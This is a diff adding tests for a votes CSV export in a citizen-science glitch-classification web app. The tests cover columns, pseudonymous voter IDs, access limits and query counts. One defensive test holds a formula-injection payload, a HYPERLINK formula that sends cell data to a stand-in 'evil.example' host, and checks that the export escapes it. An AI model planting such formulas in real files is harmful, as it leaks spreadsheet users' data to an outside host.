@@ -1,5 +1,6 @@
 """The labels export (/api/exports/labels.csv and .json): streamed, Gravity Spy's columns
-plus posterior, votes and the model's top class, and what each role may take away."""
+plus posterior, votes and the model's top class, and what each role may take away; the
+votes export (/api/exports/votes.csv), one row per vote, for reviewers and admins."""
 
 import csv
 import io
@@ -265,6 +266,7 @@ def test_reviewers_find_the_export_links_on_the_review_page(client):
     page = client.get(reverse("review:queue")).content.decode()
     assert reverse("api-labels-csv") in page and reverse("api-labels-json") in page
     assert reverse("api-labels-csv") + "?excel=1" in page
+    assert reverse("api-votes-csv") in page
 
 
 def test_the_command_writes_the_same_rows_as_the_api(client, glitches):
@@ -535,3 +537,146 @@ def test_deleting_a_volunteer_who_voted_is_refused_and_their_votes_stay(admin_cl
     subject.refresh_from_db()
     assert subject.n_votes == 1
     UserFactory(username="never_voted").delete()  # an account without votes still goes
+
+
+def votes_of(client) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(body(client.get(reverse("api-votes-csv"))))))
+
+
+def test_the_votes_export_has_every_vote_its_class_weight_and_time(client, glitches):
+    """The labels export counts the counted votes per class: a dissenting vote cast after
+    retirement, the W_i each vote carried, a deprecated class's votes as chosen, gold
+    answers and when each vote came were in no export, so a paper could neither rebuild a
+    posterior nor say how many votes disagreed."""
+    from datetime import datetime, timedelta
+
+    retired, open_one, gold = glitches
+    Classification.objects.filter(subject=retired, volunteer__username="v1").update(
+        weight={"Whistle": 0.9, "Blip": 0.1}, seconds_taken=4.5
+    )
+    gone = GlitchClass.objects.create(name="Reverse_Chirp", order=99)
+    moved = Classification.objects.create(  # an admin deprecated the class it chose
+        volunteer=UserFactory(),
+        subject=open_one,
+        glitch_class=glitch_class("Chirp"),
+        remapped_from=gone,
+    )
+    graded = Classification.objects.create(
+        volunteer=UserFactory(),
+        subject=gold,
+        glitch_class=glitch_class("Tomte"),
+        was_gold=True,
+        was_correct=False,
+    )
+    client.force_login(user_in(REVIEWER, "rita"))
+
+    rows = votes_of(client)
+
+    assert list(rows[0]) == exports.VOTE_COLUMNS
+    assert [int(r["vote_id"]) for r in rows] == sorted(
+        Classification.objects.values_list("pk", flat=True)
+    )
+    on_retired = [r for r in rows if r["subject_id"] == str(retired.pk)]
+    assert [(r["chosen_class"], r["after_retirement"]) for r in on_retired] == [
+        ("Whistle", "False"),
+        ("Whistle", "False"),
+        ("Blip", "True"),  # late: kept, never counted, and here
+    ]
+    first = on_retired[0]
+    assert first["external_id"] == "H1_retired001" and first["seconds_taken"] == "4.5"
+    assert json.loads(first["weight"]) == {"Blip": 0.1, "Whistle": 0.9}
+    assert datetime.fromisoformat(first["created_at"]).utcoffset() == timedelta(0)
+    by_id = {int(r["vote_id"]): r for r in rows}
+    assert (
+        by_id[moved.pk]["chosen_class"],
+        by_id[moved.pk]["counted_class"],
+        by_id[moved.pk]["remapped_from"],
+    ) == ("Reverse_Chirp", "Chirp", "Reverse_Chirp")
+    assert (first["counted_class"], first["remapped_from"]) == ("Whistle", "")
+    assert (by_id[graded.pk]["was_gold"], by_id[graded.pk]["was_correct"]) == ("True", "False")
+    assert first["was_correct"] == ""
+
+
+def test_voters_are_pseudonyms_the_same_in_every_export_never_usernames(client, glitches, settings):
+    """A file passed on must not name volunteers (Talk shows their usernames; account ids
+    count up): each is "v" and 16 hex digits keyed by SECRET_KEY, the same in every export,
+    so one volunteer's votes can be followed without saying who."""
+    import re
+
+    retired, _, _ = glitches
+    named = UserFactory(username="alice.smith")
+    Classification.objects.create(
+        volunteer=named, subject=retired, glitch_class=glitch_class("Blip")
+    )
+    client.force_login(user_in(REVIEWER, "rita"))
+
+    text = body(client.get(reverse("api-votes-csv")))
+
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert "alice.smith" not in text
+    assert all(re.fullmatch(r"v[0-9a-f]{16}", r["voter"]) for r in rows)
+    voters = Classification.objects.order_by("pk").values_list("volunteer_id", flat=True)
+    assert [r["voter"] for r in rows] == [exports.voter_pseudonym(pk) for pk in voters]
+    assert len({r["voter"] for r in rows}) == 4  # v1, v2, v3, alice
+    assert votes_of(client) == rows  # the same in the next export
+    settings.SECRET_KEY = "another-site-" + "x" * 40  # not to be worked out from the id
+    assert exports.voter_pseudonym(named.pk) not in {r["voter"] for r in rows}
+
+
+def test_only_reviewers_and_admins_get_the_votes(client, glitches):
+    """A gold glitch's votes (and was_correct) give its answer, an open one's the crowd's
+    lean: volunteers get neither."""
+    url = reverse("api-votes-csv")
+    assert client.get(url).status_code in (401, 403)
+    client.force_login(UserFactory(username="vera"))
+    refused = client.get(url)
+    assert refused.status_code == 403 and b"Whistle" not in refused.content
+    for role, name in ((REVIEWER, "rita"), (ADMIN, "ada")):
+        client.force_login(user_in(role, name))
+        response = client.get(url)
+        assert response.status_code == 200 and response["Cache-Control"] == "private, no-store"
+        assert "attachment" in response["Content-Disposition"] and "vote_id" in body(response)
+
+
+def test_the_votes_csv_keeps_formulas_as_text_and_comes_for_excel(client, glitches):
+    retired, _, _ = glitches
+    evil = '=HYPERLINK("http://evil.example/?"&B2,"open")'
+    Subject.objects.filter(pk=retired.pk).update(external_id=evil)
+    client.force_login(user_in(REVIEWER, "rita"))
+
+    rows = votes_of(client)
+
+    assert {r["external_id"] for r in rows} == {"'" + evil}
+    assert not [v for r in rows for v in r.values() if v[:1] in ("=", "+", "@")]
+    excel = b"".join(client.get(reverse("api-votes-csv") + "?excel=1").streaming_content)
+    assert excel.startswith(b"\xef\xbb\xbfvote_id,")
+
+
+def test_the_votes_export_reads_all_votes_in_one_query_whatever_their_number(
+    client, glitches, monkeypatch
+):
+    """Read CHUNK votes at a time by one query (one snapshot), never a query per vote or
+    per voter, and never all in memory."""
+    client.force_login(user_in(REVIEWER, "rita"))
+    monkeypatch.setattr(exports, "CHUNK", 2)
+    body(client.get(reverse("api-votes-csv")))  # the class table is cached now
+    few, _ = queries_while_reading(client.get(reverse("api-votes-csv")))
+    for i in range(9):
+        subject = SubjectFactory(external_id=f"H1_many{i:06d}", images=())
+        Classification.objects.create(
+            volunteer=UserFactory(), subject=subject, glitch_class=glitch_class("Blip")
+        )
+    many, text = queries_while_reading(client.get(reverse("api-votes-csv")))
+    assert len(list(csv.DictReader(io.StringIO(text)))) == 12
+    assert few == many == 1
+
+
+def test_the_votes_command_writes_the_same_rows_as_the_api(client, glitches, tmp_path):
+    from django.core.management import call_command
+
+    out = io.StringIO()
+    call_command("export_votes", "--output", str(tmp_path / "votes.csv"), stdout=out)
+    assert out.getvalue().startswith("wrote 3 votes to ")
+    client.force_login(user_in(ADMIN, "ada"))
+    api = body(client.get(reverse("api-votes-csv")))
+    assert (tmp_path / "votes.csv").read_bytes().decode() == api
